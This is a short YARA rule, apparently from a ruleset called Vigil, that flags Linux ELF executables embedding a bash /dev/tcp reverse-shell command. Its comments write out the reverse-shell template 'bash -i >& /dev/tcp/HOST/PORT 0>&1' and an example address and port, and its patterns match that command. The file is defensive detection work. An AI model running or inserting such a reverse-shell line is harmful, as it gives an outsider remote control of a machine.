// An ELF executable that carries a shell reverse-shell command: `bash -i >& /dev/tcp/HOST/PORT
// 0>&1` and its variants, as droppers and backdoors embed them to call home.

rule Vigil_ELF_Embedded_Reverse_Shell : attack_execution attack_t1059_004 attack_command_and_control attack_t1095
{
    meta:
        description = "ELF executable carrying a /dev/tcp reverse shell command"
        severity = "high"
        author = "Vigil"
    strings:
        // Bash's network redirection with a host and a port, e.g. /dev/tcp/10.0.0.1/4444.
        $dev_tcp = /\/dev\/(tcp|udp)\/[A-Za-z0-9.:\-]{1,253}\/[0-9]{1,5}/
        $interactive = /\b(ba|z|k|da)?sh -i\b/
        $stdin_to_socket = "0>&1"
        $fd_dup = /[0-9]?>&\s?\/dev\/(tcp|udp)\//
    condition:
        uint32(0) == 0x464c457f and $dev_tcp and ($interactive or $stdin_to_socket or $fd_dup)
}
